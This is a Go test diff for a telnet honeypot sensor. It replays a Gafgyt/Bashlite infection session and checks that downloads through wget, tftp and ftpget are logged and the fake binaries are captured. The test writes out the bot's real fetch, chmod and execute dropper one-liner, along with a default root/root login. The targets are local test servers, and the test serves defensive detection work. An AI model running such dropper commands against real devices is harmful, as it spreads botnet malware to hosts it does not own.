@@ -148,31 +148,43 @@ func TestReplayMiraiWgetLoader(t *testing.T) {
 // fetches the binaries, run it, clean up.
 func TestReplayGafgyt(t *testing.T) {
 	srv := newBinServer(t)
-	arm, mips := fakeELF(9000), fakeELF(11000)
+	arm, mips, x86, ppc := fakeELF(9000), fakeELF(11000), fakeELF(1500), fakeELF(7000)
 	urlArm := srv.add("/bins/gaf.arm", arm)
 	urlMips := srv.add("/bins/gaf.mips", mips)
 	script := fmt.Sprintf("#!/bin/sh\ncd /tmp || cd /var/run\nwget %s; chmod +x gaf.arm; ./gaf.arm\nwget %s; chmod +x gaf.mips; ./gaf.mips\nrm -rf gaf.arm gaf.mips\n", urlArm, urlMips)
 	urlSh := srv.add("/bins.sh", []byte(script))
+	tftpPort := serveTFTP(t, map[string][]byte{"tftp2.sh": x86})
+	ftpPort := serveFTP(t, map[string][]byte{"ftp1.sh": ppc})
 	in := sensortest.Start(t, sensortest.Options{Factory: "telnet", Config: routerConfig, Env: withFetcher}, sensor.DefaultLimits())
 	cl := newClient(t, in.Dial(t, ""))
 	login(t, cl, "root", "root")
 	cl.run("sh", "# ")
-	cl.run("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget "+urlSh+"; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh", "# ")
+	// The Bashlite one-liner, with the servers' test ports added.
+	cl.run(fmt.Sprintf("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget %s; chmod 777 bins.sh; sh bins.sh; "+
+		"tftp -r tftp2.sh -g 127.0.0.1 %d; chmod 777 tftp2.sh; sh tftp2.sh; "+
+		"ftpget -v -u anonymous -p anonymous -P %d 127.0.0.1 ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh", urlSh, tftpPort, ftpPort), "# ")
 	cl.send("exit\r\n")
 	evs := in.Recorder.WaitFor(t, "close", sensortest.Wait, func(evs []*event.Event) bool { return sensortest.Count(evs, "session.recording", nil) == 1 })
-	urls := map[string]bool{}
+	urls := map[string]string{}
 	for _, e := range evs {
 		if e.Kind == "download.ok" {
-			urls[e.Text("url")] = true
+			urls[e.Text("url")] = e.Str("tool")
 		}
 	}
 	for _, u := range []string{urlSh, urlArm, urlMips} {
-		if !urls[u] {
-			t.Errorf("no download.ok for %s (have %v)", u, urls)
+		if urls[u] != "wget" {
+			t.Errorf("no wget download.ok for %s (have %v)", u, urls)
 		}
 	}
+	tools := map[string]bool{}
+	for _, tool := range urls {
+		tools[tool] = true
+	}
+	if !tools["tftp"] || !tools["ftpget"] {
+		t.Errorf("tftp/ftpget downloads missing: %v", urls)
+	}
 	samples := in.Recorder.Samples()
-	for _, b := range [][]byte{arm, mips, []byte(script)} {
+	for _, b := range [][]byte{arm, mips, []byte(script), x86, ppc} {
 		if _, ok := samples[sha(b)]; !ok {
 			t.Errorf("sample %s not captured", sha(b)[:12])
 		}
